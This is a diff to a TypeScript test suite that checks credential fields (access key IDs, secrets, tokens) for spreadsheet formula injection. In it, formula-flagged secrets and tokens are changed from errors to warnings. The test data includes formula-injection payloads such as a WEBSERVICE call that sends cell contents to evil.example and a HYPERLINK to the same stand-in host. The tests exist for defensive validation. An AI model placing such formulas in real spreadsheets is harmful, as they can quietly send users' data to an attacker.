@@ -289,7 +289,8 @@ describe('F14: a name', () => {
 
 describe('F9: what a spreadsheet would calculate', () => {
   const id = (text: string) => words(errorsOf(checkNewKey({ ...good, accessKeyId: text }, now)));
-  const secret = (text: string) => words(errorsOf(checkSecret(providerOf('pingan'), text)));
+  const secret = (text: string) => checkSecret(providerOf('pingan'), text);
+  const warned = (field: 'secret' | 'token') => [{ field, problem: 'formula', severity: 'warning' }];
 
   test.each([
     '=WEBSERVICE("https://evil.example/?"&B2)',
@@ -309,11 +310,11 @@ describe('F9: what a spreadsheet would calculate', () => {
     for (const text of ['＝1', '＋1', '－1', '＠1', '﹦1']) expect(id(text)).toEqual(['accessKeyId not-printable']);
   });
 
-  test('is no secret and no token, but base64 may begin with a plus', () => {
-    expect(secret('=HYPERLINK("https://evil.example")')).toEqual(['secret formula']);
-    expect(secret("@'http://x'!A1")).toEqual(['secret formula']);
-    expect(words(checkToken('temporary', '=WEBSERVICE("x")'))).toEqual(['token formula']);
-    expect(secret('+FAKE/fake=')).toEqual([]);
-    expect(secret('-FAKE_fake')).toEqual([]);
+  test('is taken as a secret or token with a warning, and base64 may begin with a plus', () => {
+    expect(secret('=HYPERLINK("https://evil.example")')).toEqual(warned('secret'));
+    expect(secret("@'http://x'!A1")).toEqual(warned('secret'));
+    expect(checkToken('temporary', '=WEBSERVICE("x")')).toEqual(warned('token'));
+    for (const base64 of ['+FAKE/fake=', '-FAKE_fake']) expect(words(secret(base64))).not.toContain('secret formula');
+    expect(checkToken('temporary', '+FAKE/fake=')).toEqual([]);
   });
 });
